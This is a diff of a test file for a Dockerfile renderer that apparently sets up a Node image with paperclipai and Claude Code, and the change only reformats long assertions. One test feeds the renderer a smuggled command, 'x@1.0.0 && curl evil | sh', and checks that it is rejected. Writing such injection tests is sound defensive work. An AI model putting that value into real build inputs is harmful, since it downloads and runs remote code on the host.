@@ -45,7 +45,9 @@ describe("renderDockerfile", () => {
     expect(lines).toContain(
       "RUN apt-get update && apt-get install --yes --no-install-recommends ca-certificates curl git iptables postgresql-17 && rm -rf /var/lib/apt/lists/*",
     );
-    expect(lines).toContain("RUN npm install --global --no-fund --no-audit paperclipai@2026.916.1 @anthropic-ai/claude-code@2.1.329 && npm cache clean --force");
+    expect(lines).toContain(
+      "RUN npm install --global --no-fund --no-audit paperclipai@2026.916.1 @anthropic-ai/claude-code@2.1.329 && npm cache clean --force",
+    );
   });
 
   test("installs Tailscale from its image, never by piping a download into a shell", () => {
@@ -65,8 +67,12 @@ describe("renderDockerfile", () => {
   });
 
   test("refuses values it cannot vouch for", () => {
-    expect(() => renderDockerfile({ ...INPUT, baseImage: "node:lts-trixie-slim" })).toThrow('Dockerfile: invalid base image: "node:lts-trixie-slim"');
-    expect(() => renderDockerfile({ ...INPUT, npmPackages: ["paperclipai@latest"] })).toThrow('Dockerfile: invalid npm package: "paperclipai@latest"');
+    expect(() => renderDockerfile({ ...INPUT, baseImage: "node:lts-trixie-slim" })).toThrow(
+      'Dockerfile: invalid base image: "node:lts-trixie-slim"',
+    );
+    expect(() => renderDockerfile({ ...INPUT, npmPackages: ["paperclipai@latest"] })).toThrow(
+      'Dockerfile: invalid npm package: "paperclipai@latest"',
+    );
     expect(() => renderDockerfile({ ...INPUT, npmPackages: ["x@1.0.0 && curl evil | sh"] })).toThrow("Dockerfile: invalid npm package");
     expect(() => renderDockerfile({ ...INPUT, seedConfigPath: "/etc/paper clip.json" })).toThrow("Dockerfile: invalid seed config path");
   });
